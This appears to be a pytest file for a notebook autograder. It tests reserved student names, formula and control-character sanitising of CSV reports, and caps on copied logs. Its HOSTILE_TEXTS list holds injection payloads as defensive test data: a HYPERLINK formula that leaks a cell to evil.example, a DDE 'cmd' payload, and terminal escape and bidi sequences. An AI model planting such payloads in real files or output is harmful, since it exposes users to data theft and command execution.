"""The integrity of what grading reports (issue 31): reserved names, what a student writes into
the reports, copies, and floods of the grader itself.

Everything here is quick: no lab is graded in a kernel (``run_pool`` is replaced where a whole
run is needed), except the flood tests, which start one bare kernel each, bounded in time.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from autograder import ROOT, grade, runner

LAB = "lab01_basics"
RELEASE = ROOT / "labs" / LAB / f"{LAB}.ipynb"
SOURCE = ROOT / "solutions"


# ---------------------------------------------------------------------------------------
# (4) reserved names
# ---------------------------------------------------------------------------------------
def _fake_pool(ran: list):
    """A run_pool that grades nothing: a job for the lab's source scores full marks, any other
    none; every job is recorded."""

    def run_pool(jobs, cfg, n, logs, on_result):
        for job in jobs:
            ran.append(job)
            from_source = Path(job.notebook).resolve().is_relative_to(SOURCE.resolve())
            info = grade.lab_info(SOURCE / job.lab / f"{job.lab}.ipynb", job.lab)
            scores = {g: (p if from_source else 0.0) for g, p in info.cells.items()}
            on_result(job, {"student": job.student, "lab": job.lab, "status": "graded",
                            "reason": "", "isolation": "fake", "ran_all_cells": False,
                            "scores": scores}, 0.0)

    return run_pool


@pytest.mark.parametrize("include_solutions", [False, True])
def test_a_student_id_the_grader_uses_is_graded_as_that_student(tmp_path, monkeypatch,
                                                                include_solutions):
    subs = tmp_path / "subs"
    for student in ("reference", "Reference", "alice"):
        (subs / student / LAB).mkdir(parents=True)
        shutil.copyfile(RELEASE, subs / student / LAB / f"{LAB}.ipynb")
    ran: list = []
    monkeypatch.setattr(runner, "run_pool", _fake_pool(ran))
    rc = grade.main([str(subs), "--lab", LAB, "--unsandboxed", "--out", str(tmp_path / "out"),
                     "--work", str(tmp_path / "work"), "--compile-cache", str(tmp_path / "cc"),
                     *(["--include-solutions"] if include_solutions else [])])
    assert rc == 0
    rows = {r["student"]: r for r in json.loads((tmp_path / "out" / "results.json").read_text())}
    for student in ("reference", "Reference", "alice"):  # a blank notebook: 0, its own run
        assert rows[student]["total"] == 0, (student, rows[student])
        assert any(j.student == student and Path(j.notebook) ==
                   subs / student / LAB / f"{LAB}.ipynb" for j in ran), student
    graders = set(rows) - {"reference", "Reference", "alice"}
    assert len(graders) == int(include_solutions)
    for name in graders:  # the grader's own row: full marks, a name no student can have
        assert rows[name]["total"] == rows[name]["max_score"] > 0
        assert not grade.STUDENT_RE.match(name)
    dirs = [j.dir for j in ran]
    assert len(dirs) == len(set(dirs)), "two jobs shared a work folder"


# ---------------------------------------------------------------------------------------
# (5) reports a student writes into
# ---------------------------------------------------------------------------------------
HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)", "\tTab=1", "\r=1", "\x1b[2J\x1b[31mred\x1b]0;title\x07",
                 "bidi \u202eevil\u202c end", "nul\x00 del\x7f c1\x9b"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = tuple("=+-@\t\r")


def _lab_info():
    return grade.lab_info(SOURCE / LAB / f"{LAB}.ipynb", LAB)


def _hostile_results(info):
    cells = list(info.cells)
    out = []
    for k, text in enumerate(HOSTILE_TEXTS):
        out.append({"student": f"s{k}", "lab": LAB, "status": "graded", "reason": text,
                    "isolation": text, "ran_all_cells": True,
                    "scores": dict.fromkeys(cells, 0.0),
                    "messages": dict.fromkeys(cells, f"{text} (the check's message)"),
                    "review": [text]})
    return out


def test_no_csv_cell_is_a_formula_and_nothing_printed_holds_control_characters(tmp_path,
                                                                                capsys):
    info = _lab_info()
    text = grade.write_outputs(tmp_path / "out", _hostile_results(info), {LAB: info}, {}, {})
    csvs = sorted((tmp_path / "out").glob("*.csv"))
    assert {p.name for p in csvs} >= {f"grades-{LAB}.csv", f"class-summary-{LAB}.csv",
                                      "grades.csv"}
    for path in csvs:
        with open(path, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(FORMULA) or re.fullmatch(r"-?\d+(\.\d+)?", cell), \
                        (path.name, cell)
                    assert not CONTROL.search(cell), (path.name, cell)
    with open(tmp_path / "out" / f"grades-{LAB}.csv", newline="") as f:
        reasons = [r["reason"] for r in csv.DictReader(f)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in reasons  # kept, readable
    for shown in (text, (tmp_path / "out" / "summary.txt").read_text()):
        assert not CONTROL.search(shown), repr(CONTROL.search(shown))
    progress = grade.Progress(1)
    progress.update(_hostile_results(info)[6] | {"student": "x\x1b[2Jy"}, 1.0)
    progress.close()
    printed = capsys.readouterr()
    assert not CONTROL.search(printed.out + printed.err), repr(printed.out + printed.err)


def test_what_a_submission_wrote_to_its_logs_is_copied_capped(tmp_path):
    info = _lab_info()
    work = tmp_path / "work"
    work.mkdir()
    log = work / "kernel.log"
    with open(log, "wb") as f:  # a sparse 300 MiB file: cheap to make, costly to copy whole
        f.write(b"\x1b[2J start of the kernel's log\n")
        f.truncate(300 << 20)
    results = [{"student": "alice", "lab": LAB, "status": "graded", "reason": "",
                "scores": dict.fromkeys(info.cells, 0.0)}]
    grade.write_outputs(tmp_path / "out", results, {LAB: info},
                        {(LAB, "alice"): {"log": log, "grader": work / "absent"}}, {})
    copied = tmp_path / "out" / "logs" / "alice" / f"{LAB}.log"
    assert copied.stat().st_size <= grade.LOG_COPY_BYTES + 4096
    assert b"start of the kernel's log" in copied.read_bytes()[:200]
    assert b"bytes of this log were not copied" in copied.read_bytes()
